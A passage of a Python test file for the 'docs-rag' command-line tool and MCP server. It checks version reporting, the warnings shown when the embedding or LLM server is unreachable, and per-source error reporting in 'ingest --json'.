        assert out.returncode == 69, out.stderr
        assert out.stderr.startswith(f"error: embedding server at {srv.url}/ failed after 1 attempts: Connection error.; "
                                     "check that it runs and that embedding.base_url points at it"), out.stderr
        assert len(out.stderr.strip().splitlines()) == 1, out.stderr


def test_version_is_the_packages_in_the_cli_and_the_mcp_handshake(tmp_path):
    """`docs-rag --version` was a usage error (exit 2) and the MCP handshake's serverInfo.version was
    "": a user reporting a bug, or an MCP host listing its servers, could not tell which docs-rag ran.
    Both now give the package's version, the one pyproject.toml declares, and --version reads no config."""
    import tomllib

    from mcp.types import LATEST_PROTOCOL_VERSION

    from docs_rag_pipeline import __version__

    declared = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())["project"]["version"]
    assert __version__ == declared
    out = _run(["--version"], tmp_path / "no-such-config.yaml")
    assert (out.returncode, out.stdout, out.stderr) == (0, f"docs-rag {declared}\n", "")
    write_docs(tmp_path / "docs", GUIDE)
    hello = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": LATEST_PROTOCOL_VERSION, "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}})
    out = _run(["mcp"], write_config(tmp_path), input=hello + "\n", timeout=120)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout.splitlines()[0])["result"]["serverInfo"] == {"name": "docs-rag", "version": declared}


def test_an_answers_warning_is_the_note_line_cli_md_describes(index):
    """docswalk F2: cli.md said the text output of `ask` shows no `warning`; the command prints it on
    stderr as `note: <warning>` (here the LLM server is down and the answer was extracted)."""
    import re
    import socket

    from .conftest import REPO

    with socket.socket() as s:  # a port nothing listens on once closed
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    llm_cfg = index.parent / "llm_down.yaml"
    llm_cfg.write_text(index.read_text() + f"\nllm:\n  provider: openai\n  model: m\n"
                       f"  base_url: http://127.0.0.1:{port}/v1\n")
    env_key = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
    out = subprocess.run([*DOCS_RAG, "--config", str(llm_cfg), "ask", "How do forms validate?"], capture_output=True,
                         text=True, env={**env_key, "DAGSTER_HOME": str(index.parent / "dagster_home")}, cwd=index.parent)
    assert out.returncode == 0, out.stderr
    warning = (f"the LLM server at http://127.0.0.1:{port}/v1/ is unreachable; "
               "this answer was extracted from the docs without the LLM")
    assert f"note: {warning}\n" in out.stderr and "unreachable" not in out.stdout and "[1]" in out.stdout

    section = (REPO / "docs" / "interfaces" / "cli.md").read_text(encoding="utf-8").split("## docs-rag ask", 1)[1]
    section = section.split("\n## ", 1)[0]
    assert "shows neither `mode` nor `warning`" not in section
    assert re.search(r"goes to stderr as one line `note: <warning>`", section), "cli.md no longer describes the note line"


def test_ingest_json_names_a_source_that_failed(tmp_path):
    """``ingest --json`` over several sources, one failing before it wrote (its folder is not mounted),
    printed the others' counts and nothing for it: a script reading the object could not tell which source
    failed or why (exit 1 and stderr only). The object now has every source asked for, the failed one as
    ``{"error": "step … failed: …"}``, one run per source and with ``--parallel``."""
    write_docs(tmp_path / "kettle", {"kettle.md": "# Kettle\n\n## Descale\n\nPour white vinegar into the kettle.\n"})
    cfg = write_config(tmp_path, sources="- name: kettle\n  kind: local\n  path: kettle\n"
                                         "  base_url: https://kettle.example.org/\n"
                                         "- name: blender\n  kind: local\n  path: blender-not-mounted\n"
                                         "  base_url: https://blender.example.org/\n")
    for extra in ([], ["--parallel", "2"]):
        out = _run(["ingest", "--json", *extra], cfg)
        assert out.returncode == 1, out.stderr[-3000:]
        summary = json.loads(out.stdout)
        assert set(summary) == {"kettle", "blender"}, (extra, summary)
        assert summary["kettle"]["chunks_total"] == 1 and "error" not in summary["kettle"]
        error = summary["blender"]["error"]
        assert error.startswith("step ") and "blender-not-mounted' does not exist" in error, (extra, error)
        assert f"[blender] {error}" in out.stderr
